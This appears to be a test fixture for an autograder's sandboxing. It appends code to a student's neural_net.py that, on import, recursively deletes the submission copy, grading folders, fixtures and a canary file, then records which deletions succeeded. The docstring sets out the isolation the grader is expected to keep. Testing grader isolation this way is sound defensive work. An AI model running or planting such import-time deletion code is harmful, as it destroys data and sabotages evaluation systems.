"""At import, neural_net.py deletes every file it can reach: its copy of the submission, its job, the grading folders, the canary.

Must not happen: the canary or any autograder file deleted; a test in another
worker missing a file this one deleted (each worker gets a fresh copy). Its
functions are correct, so only the tests that shared its worker and lost their
inputs there (every loss test after the first) score 0. The train tests rely on
loss, which failed, so they run again, each in a fresh worker, and keep their
points.
"""

APPEND = {"classifiers/neural_net.py": '''
import shutil as _shutil


def _destroy(top):
    for folder, _, names in _os.walk(top):
        for name in names:
            path = _os.path.join(folder, name)
            if path == _os.path.abspath(__file__):
                continue
            try:
                _os.remove(path)
            except OSError as error:
                print("blocked:", error)


def _delete_everything():
    _destroy(_os.path.dirname(_os.getcwd()))
    if _os.path.exists(_os.path.join(_os.getcwd(), "course_lib", "layers.py")):
        _mark("failed-to-delete-own-copy")
    for target in _roots() + [_os.path.dirname(_CANARY)]:
        _destroy(target)
        _shutil.rmtree(target, ignore_errors=True)
    for target in [_CANARY] + [_os.path.join(root, "source", "fixtures.npz") for root in _roots()]:
        try:
            _os.remove(target)
        except OSError as error:
            print("blocked:", error)
            continue
        _mark("succeeded-deleting-" + _os.path.basename(target))


_mark("ran")
if not _as_root():
    _delete_everything()
'''}
ZERO_TESTS = ("classifiers.neural_net.TwoLayerNet.loss: loss and gradients, reg 0.05",
              "classifiers.neural_net.TwoLayerNet.loss: loss and gradients, rows of very different magnitudes, reg 0.1",
              "classifiers.neural_net.TwoLayerNet.loss: loss and gradients, a batch of one, default reg")
NEEDS_USER_SWITCH = True
